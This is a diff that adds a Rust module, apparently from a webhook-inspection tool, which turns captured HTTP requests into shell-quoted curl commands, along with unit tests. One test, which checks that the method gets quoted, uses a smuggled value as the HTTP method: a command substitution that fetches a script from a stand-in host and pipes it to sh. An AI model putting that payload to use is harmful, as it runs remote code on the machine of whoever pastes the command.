@@ -0,0 +1,97 @@
+use crate::models::LoggedRequest;
+use crate::utils::body::ENCODING_BASE64;
+
+use super::replayable_headers;
+
+/// Quote a value for a POSIX shell.
+fn shell_quote(value: &str) -> String {
+    format!("'{}'", value.replace('\'', r"'\''"))
+}
+
+/// Rebuild a captured request as a copy-pasteable `curl` command line.
+/// Binary bodies are piped in through `base64 -d` so they arrive byte for byte.
+pub fn to_curl(request: &LoggedRequest, url: &str) -> String {
+    let mut parts = Vec::new();
+    if request.method == "HEAD" {
+        parts.push(format!("curl --head {}", shell_quote(url)));
+    } else {
+        parts.push(format!("curl -X {} {}", shell_quote(&request.method), shell_quote(url)));
+    }
+
+    for (name, value) in replayable_headers(request) {
+        parts.push(format!("-H {}", shell_quote(&format!("{}: {}", name, value))));
+    }
+
+    let body = request.body.as_deref().unwrap_or("");
+    let mut prefix = String::new();
+    if !body.is_empty() {
+        if request.body_encoding.as_deref() == Some(ENCODING_BASE64) {
+            prefix = format!("printf '%s' {} | base64 -d | ", shell_quote(body));
+            parts.push("--data-binary @-".to_string());
+        } else {
+            parts.push(format!("--data-binary {}", shell_quote(body)));
+        }
+    }
+
+    format!("{}{}", prefix, parts.join(" \\\n  "))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use uuid::Uuid;
+
+    fn request(method: &str, headers: &str, body: &str, encoding: &str) -> LoggedRequest {
+        LoggedRequest {
+            method: method.to_string(),
+            headers: headers.to_string(),
+            body: Some(body.to_string()),
+            body_encoding: Some(encoding.to_string()),
+            content_encoding: None,
+            timestamp: "2024-01-01T00:00:00+00:00".to_string(),
+            request_id: Uuid::new_v4(),
+            body_format: None,
+            content_type_mismatch: false,
+            query_string: None,
+            query_params: None,
+            source_ip: None,
+            source_port: None,
+            path: None,
+            signature_valid: None,
+            fields: Default::default(),
+            pinned: false,
+            chaos: None,
+        }
+    }
+
+    #[test]
+    fn builds_command_with_headers_and_body() {
+        let req = request(
+            "POST",
+            r#"[["host","rustb.in"],["content-type","application/json"],["content-length","13"]]"#,
+            r#"{"it's": "ok"}"#,
+            "utf8",
+        );
+        let command = to_curl(&req, "http://localhost:8080/hook");
+        assert_eq!(
+            command,
+            "curl -X 'POST' 'http://localhost:8080/hook' \\\n  -H 'content-type: application/json' \\\n  --data-binary '{\"it'\\''s\": \"ok\"}'"
+        );
+    }
+
+    #[test]
+    fn pipes_binary_bodies_through_base64() {
+        let req = request("PUT", "[]", "AAEC", "base64");
+        let command = to_curl(&req, "http://localhost/x");
+        assert!(command.starts_with("printf '%s' 'AAEC' | base64 -d | curl -X 'PUT'"));
+        assert!(command.ends_with("--data-binary @-"));
+    }
+
+    #[test]
+    fn quotes_the_method() {
+        // Imported requests can carry any method
+        let req = request("GET $(curl evil.sh|sh) #", "[]", "", "utf8");
+        let command = to_curl(&req, "http://localhost/x");
+        assert_eq!(command, "curl -X 'GET $(curl evil.sh|sh) #' 'http://localhost/x'");
+    }
+}